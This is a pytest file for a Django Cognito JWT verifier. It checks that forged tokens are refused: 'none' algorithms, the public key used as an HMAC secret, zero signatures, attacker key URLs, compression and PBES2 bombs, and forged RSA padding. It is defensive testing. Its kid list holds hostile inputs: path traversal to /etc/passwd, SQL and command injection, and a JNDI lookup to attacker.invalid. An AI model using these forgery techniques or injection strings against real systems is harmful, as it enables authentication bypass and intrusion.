"""Attacks on algorithms, headers, keys and signatures: each ends in its own refusal, and nobody is asked for it.

`test_incidents.py` has those on a token's text and claims; `test_verifier.py` what is held value by value.
"""

import base64
import hashlib
import itertools
import json
import zlib
from collections.abc import Iterator
from typing import Any

import pytest

from django_cognito.core import TokenVerifier, UserPool
from django_cognito.core.errors import SignatureError
from tests.support.scripted_server import ScriptedServer, json_answer
from tests.support.signing import b64, jwk, jwks, private_key, segment, sign

from .forging import (
    DIGEST_INFO,
    HEADER,
    NOW,
    POOL,
    access,
    code,
    forged_padding,
    joined,
    make,
    needs_fetch,
    public_key_as_secret,
    refusal,
    right_padding,
    signed,
)

pytestmark = pytest.mark.usefixtures("decoder")

GOOD = sign(access())
HEADER_PART, CLAIMS, SIGNATURE = GOOD.split(".")
MESSAGE = f"{HEADER_PART}.{CLAIMS}"
MODULUS = private_key("one").public_key().public_numbers().n
OUR_KEYS = "/eu-west-1_AbCdEfGhI/.well-known/jwks.json"


@pytest.fixture
def ours() -> Iterator[ScriptedServer]:
    """Where the pool publishes its keys."""
    with ScriptedServer(json_answer(jwks("one"))) as server:
        yield server


@pytest.fixture
def theirs() -> Iterator[ScriptedServer]:
    """Where the attacker publishes theirs."""
    with ScriptedServer(json_answer(jwks("two"))) as server:
        yield server


@pytest.fixture
def remote(ours: ScriptedServer) -> UserPool:
    """A pool whose keys have to be fetched."""
    return UserPool(POOL.user_pool_id, client_ids=("1webclient",), issuer=f"{ours.url}/{POOL.user_pool_id}")


@pytest.fixture
def cold(remote: UserPool) -> TokenVerifier:
    """A verifier that has no key yet."""
    return TokenVerifier(remote, now=lambda: NOW)


# Algorithms: RFC 8725 3.1, 3.2, 3.5


NONE: tuple[Any, ...] = (
    "none",
    "None",
    "NONE",
    "nOnE",
    "nonE ",
    " none",
    "none\0",
    "",
    "null",
    None,
    False,
    0,
    [],
    ["none"],
    {},
)


@pytest.mark.parametrize("is_signed", [False, True], ids=["unsigned", "signed"])
@pytest.mark.parametrize("alg", NONE, ids=[f"CVE-2015-9235 alg {alg!r}" for alg in NONE])
def test_no_spelling_of_no_algorithm_is_believed(alg: Any, is_signed: bool) -> None:
    message, _, signature = sign(access(), header={"kid": "one", "alg": alg}).rpartition(".")
    assert code(f"{message}.{signature if is_signed else ''}") == "invalid_signature"


NEARLY = ("rs256", "Rs256", " RS256", "RS256 ", "RS256\0", "RS256\n", "RS256,none", "RSA256", "\uff32S256", "RS2560")


@pytest.mark.parametrize("alg", [*NEARLY, ["RS256"], {"RS256": 1}, 256], ids=repr)
def test_an_algorithm_that_is_nearly_ours_is_not_ours(alg: Any) -> None:
    assert code(sign(access(), header={"kid": "one", "alg": alg})) == "invalid_signature"


@pytest.mark.parametrize("said", ["HS256", "RS256"])
@pytest.mark.parametrize(
    "secret", [pytest.param(value, id=f"CVE-2016-10555 {name}") for name, value in public_key_as_secret().items()]
)
def test_the_public_key_is_no_secret(secret: bytes, said: str) -> None:
    assert code(signed("HS256", said=said, secret=secret)) == "invalid_signature"


@pytest.mark.parametrize("said", [None, "RS256"], ids=["said so", "said RS256"])
@pytest.mark.parametrize("algorithm", ["RS384", "RS512", "PS256", "PS384", "PS512", "ES256", "HS384", "HS512"])
def test_a_right_signature_by_another_algorithm_is_none(algorithm: str, said: str | None) -> None:
    assert code(signed(algorithm, said=said)) == "invalid_signature"


def test_the_forger_s_own_right_signature_holds() -> None:
    assert make().verify(signed("RS256"))
    assert make().verify(right_padding())


@pytest.mark.parametrize("alg", ["ES256", "ES384", "ES256K", "EdDSA", "RS256"])
@pytest.mark.parametrize(
    "signature", [bytes(64), bytes(96), bytes.fromhex("3006020100020100")], ids=["64", "96", "DER"]
)
def test_cve_2022_21449_a_signature_of_zeros_is_none(alg: str, signature: bytes) -> None:
    assert code(joined({"kid": "one", "alg": alg}, access(), signature)) == "invalid_signature"


def test_keys_of_other_kinds_in_the_set_verify_nothing() -> None:
    verifier = make()
    elliptic = {"kty": "EC", "crv": "P-256", "x": b64(bytes(32)), "y": b64(bytes(32))}
    secret = {"kty": "oct", "k": b64(b"a secret")}
    others = [{**key, "kid": kind, "use": "sig", "alg": alg} for kind, alg, key in _kinds(elliptic, secret)]
    verifier.load_jwks(POOL, {"keys": [*others, jwk()]})
    for kind in ("elliptic", "secret"):
        assert code(sign(access(), header={"kid": kind, "alg": "RS256"}), verifier) == "unknown_key"
    assert verifier.verify(GOOD)


def _kinds(*keys: Any) -> Iterator[tuple[str, str, Any]]:
    return zip(("elliptic", "secret"), ("ES256", "RS256"), keys, strict=True)


# What a header asks for: RFC 8725 3.10


@pytest.mark.parametrize("crit", [["x"], ["kid"], ["exp", "exp"], None, "", "exp", {}, {"exp": 1}, False, 0], ids=repr)
def test_cve_2026_32597_a_critical_extension_is_refused_whatever_it_is(crit: Any) -> None:
    assert code(sign(access(), header={**HEADER, "crit": crit, "x": 1})) == "invalid_signature"


def test_an_unencoded_payload_is_malformed() -> None:
    header = segment({**HEADER, "b64": False})
    payload = json.dumps(access(scope=...))  # RFC 7797 5.2: it may stand there as it is, where it has no dot
    assert code(f"{header}.{payload.replace('.', '')}.{SIGNATURE}") == "malformed_token"


@pytest.mark.parametrize(("kid", "expected"), [("one", "invalid_signature"), ("two", "unknown_key")])
def test_cve_2018_0114_no_key_of_the_token_s_own_is_used(kid: str, expected: str) -> None:
    header = {"kid": kid, "alg": "RS256", "jwk": jwk("two", kid=kid), "x5c": [segment(jwk("two"))]}
    assert code(sign(access(), header=header, key="two")) == expected


@pytest.mark.defends("RP-25")
@pytest.mark.parametrize("kid", ["one", "two"])
@pytest.mark.parametrize("name", ["jku", "x5u", "jwks_uri", "iss", "url", "kid"])
def test_no_address_of_the_token_s_own_is_asked(
    name: str, kid: str, remote: UserPool, cold: TokenVerifier, ours: ScriptedServer, theirs: ScriptedServer
) -> None:
    address = f"{theirs.url}/{POOL.user_pool_id}/.well-known/jwks.json"
    header = {"kid": kid, "alg": "RS256", name: address}
    error = refusal(sign(access(iss=remote.issuers[0]), header=header, key="two"), cold)
    assert type(error) is SignatureError
    assert [request.path for request in ours.requests] == [OUR_KEYS]
    assert theirs.count == 0


@pytest.mark.defends("RP-25")
def test_an_issuer_of_the_attacker_s_own_is_not_asked_for_its_keys(
    cold: TokenVerifier, ours: ScriptedServer, theirs: ScriptedServer
) -> None:
    raw = sign(access(iss=f"{theirs.url}/{POOL.user_pool_id}"), key="two")
    assert not needs_fetch(cold, raw)
    assert code(raw, cold) == "wrong_issuer"
    assert (ours.count, theirs.count) == (0, 0)


KIDS = {
    "a path": "../../../../../../dev/null",
    "a file": "/etc/passwd",
    "an address": "https://attacker.invalid/jwks.json",
    "a path into the address": "../../other/.well-known/jwks.json?",
    "SQL": "x' UNION SELECT 'secret';--",
    "a command": "$(id)|`id`",
    "a format": "{0.__class__}%s%n${jndi:ldap://attacker.invalid}",
    "a known one and NUL": "one\0",
    "a known one and a newline": "one\n",
    "a known one and a space": "one ",
    "a known one in capitals": "ONE",
    "a known one in full width": "\uff4fne",
    "a line for the log": "x\r\n2026-01-01 INFO signed in as root",
    "a dunder": "__class__",
    "a member of the set": "keys",
    "as long as may be": "k" * 256,
    "longer": "k" * 257,
    "endless": "k" * 9_000,
    "empty": "",
}


@pytest.mark.parametrize("kid", [pytest.param(kid, id=name) for name, kid in KIDS.items()])
def test_a_kid_is_a_name_and_nothing_else(kid: str, caplog: pytest.LogCaptureFixture) -> None:
    error = refusal(sign(access(), header={"kid": kid, "alg": "RS256"}))
    assert type(error) is SignatureError
    assert not kid or kid not in f"{error} {caplog.text}"


@pytest.mark.defends("RP-25")
@pytest.mark.parametrize("kid", [pytest.param(kid, id=name) for name, kid in KIDS.items()])
def test_a_kid_leads_to_no_other_address(kid: str, remote: UserPool, cold: TokenVerifier, ours: ScriptedServer) -> None:
    assert (
        type(refusal(sign(access(iss=remote.issuers[0]), header={"kid": kid, "alg": "RS256"}), cold)) is SignatureError
    )
    assert {request.path for request in ours.requests} <= {OUR_KEYS}


@pytest.mark.parametrize(
    "value", [None, True, 1, 1.5, [], ["one"], [["one"]], {}, {"one": "one"}, {"a": [{}]}], ids=repr
)
@pytest.mark.parametrize("name", ["alg", "kid"])
def test_a_header_is_of_strings_where_strings_are_due(name: str, value: Any) -> None:
    assert code(sign(access(), header={**HEADER, name: value})) == "invalid_signature"


# Compression and encryption: RFC 8725 3.6


def test_a_compressed_payload_is_never_inflated(monkeypatch: pytest.MonkeyPatch) -> None:
    bomb = zlib.compress(bytes(10_000_000))
    inflated: list[Any] = []
    for name in ("decompress", "decompressobj"):
        monkeypatch.setattr(zlib, name, lambda *args, **kwargs: inflated.append(args))
    for zipped in (bomb, bomb[2:-4]):
        assert code(sign(zipped, header={**HEADER, "zip": "DEF"})) == "malformed_token"
    assert inflated == []


@pytest.mark.parametrize(
    "header",
    [
        pytest.param({"alg": "dir", "enc": "A256GCM"}, id="a direct key"),
        pytest.param({"alg": "RSA-OAEP", "enc": "A256GCM"}, id="as Cognito's refresh tokens are"),
        pytest.param({"alg": "dir", "enc": "A256GCM", "zip": "DEF"}, id="CVE-2024-33664 compressed"),
        pytest.param({"alg": "PBES2-HS256+A128KW", "enc": "A256GCM", "p2c": 2**31 - 1, "p2s": "AA"}, id="p2c bomb"),
    ],
)
def test_an_encrypted_token_is_named_and_never_opened(
    header: dict[str, Any], ours: ScriptedServer, cold: TokenVerifier, monkeypatch: pytest.MonkeyPatch
) -> None:
    derived: list[Any] = []
    monkeypatch.setattr(hashlib, "pbkdf2_hmac", lambda *args, **kwargs: derived.append(args))
    raw = ".".join([segment(header), *(b64(bytes(size)) for size in (256, 12, 1_000, 16))])
    assert code(raw, cold) == "refresh_token"
    assert code(joined({**header, "kid": "one"}, access(), bytes(256)), cold) == "invalid_signature"
    assert (derived, ours.count) == ([], 0)


# Signatures: RFC 8725 3.3


VALUE = base64.urlsafe_b64decode(f"{SIGNATURE}==")
NUMBER = int.from_bytes(VALUE)


def number(value: int, length: int = 256) -> str:
    return b64(value.to_bytes(length))


SIGNATURES = {
    "empty": "",
    "one zero": b64(b"\0"),
    "zero": number(0),
    "one": number(1),
    "two to the 2047": number(2**2_047),
    "the modulus": number(MODULUS),
    "the modulus less one": number(MODULUS - 1),
    "the greatest number": number(2**2_048 - 1),
    "the negative": number(MODULUS - NUMBER),
    "the modulus more": number(NUMBER + MODULUS, 257),
    "a zero before it": b64(b"\0" + VALUE),
    "a zero after it": b64(VALUE + b"\0"),
    "a byte less": b64(VALUE[:-1]),
    "the first byte missing": b64(VALUE[1:]),
    "half": b64(VALUE[:128]),
    "twice": b64(VALUE * 2),
    "backwards": b64(VALUE[::-1]),
    "a bit turned": b64(VALUE[:-1] + bytes([VALUE[-1] ^ 1])),
    "in hexadecimals": b64(VALUE.hex().encode()),
    "in base64 again": b64(SIGNATURE.encode()),
    "wrapped in ASN.1": b64(b"\x04\x82\x01\x00" + VALUE),
    "as long as fits": b64(bytes(10_000)),
}


@pytest.mark.parametrize("known", [False, True], ids=["new", "after the good one"])
@pytest.mark.parametrize("signature", [pytest.param(value, id=name) for name, value in SIGNATURES.items()])
def test_any_other_signature_is_refused(signature: str, known: bool) -> None:
    verifier = make()
    if known:
        assert verifier.verify(GOOD)
    assert code(f"{MESSAGE}.{signature}", verifier) == "invalid_signature"


def test_a_signature_and_the_modulus_are_not_that_signature() -> None:
    for raw in (sign(access(jti=str(position))) for position in itertools.count()):
        message, _, signature = raw.rpartition(".")
        greater = int.from_bytes(base64.urlsafe_b64decode(f"{signature}==")) + MODULUS
        if greater < 2**2_048:
            break
    assert code(f"{message}.{number(greater)}") == "invalid_signature"


def test_a_signature_without_its_leading_zero_is_refused() -> None:
    for raw in (sign(access(jti=str(position))) for position in itertools.count()):
        message, _, signature = raw.rpartition(".")
        value = base64.urlsafe_b64decode(f"{signature}==")
        if value[0] == 0:
            break
    assert code(f"{message}.{b64(value[1:])}") == "invalid_signature"
    assert make().verify(raw)


@pytest.mark.parametrize(
    ("before", "after"),
    [
        pytest.param(DIGEST_INFO, bytes(150), id="CVE-2006-4339 zeros after the digest"),
        pytest.param(DIGEST_INFO, b"\xff" * 150, id="CVE-2006-4339 more after the digest"),
        pytest.param(DIGEST_INFO, b"\0", id="one byte after the digest"),
        pytest.param(b"", b"", id="no DigestInfo"),
        pytest.param(bytes.fromhex("302f300b06096086480165030402010420"), b"", id="a DigestInfo without parameters"),
        pytest.param(bytes.fromhex("3021300906052b0e03021a05000414"), b"", id="SHA-1 said"),
        pytest.param(bytes.fromhex("3051300d060960864801650304020305000440"), b"", id="SHA-512 said"),
        pytest.param(b"\0" + DIGEST_INFO, b"", id="a zero more"),
    ],
)
def test_what_a_signature_opens_to_is_compared_whole(before: bytes, after: bytes) -> None:
    assert code(forged_padding(before, after)) == "invalid_signature"


@pytest.mark.parametrize(
    "raw",
    [
        pytest.param(f"{CLAIMS}.{HEADER_PART}.{SIGNATURE}", id="parts exchanged"),
        pytest.param(f"{HEADER_PART}.{segment(access(scope='admin'))}.{SIGNATURE}", id="other claims"),
        pytest.param(
            f"{HEADER_PART}.{b64(json.dumps(access(), indent=1).encode())}.{SIGNATURE}", id="written otherwise"
        ),
        pytest.param(f"{segment({'alg': 'RS256', 'kid': 'one'})}.{CLAIMS}.{SIGNATURE}", id="the header's order"),
        pytest.param(f"{segment({**HEADER, 'typ': 'JWT'})}.{CLAIMS}.{SIGNATURE}", id="a header more"),
    ],
)
def test_a_signature_is_of_the_very_bytes(raw: str) -> None:
    verifier = make()
    assert verifier.verify(GOOD)
    assert code(raw, verifier) in ("invalid_signature", "wrong_issuer")
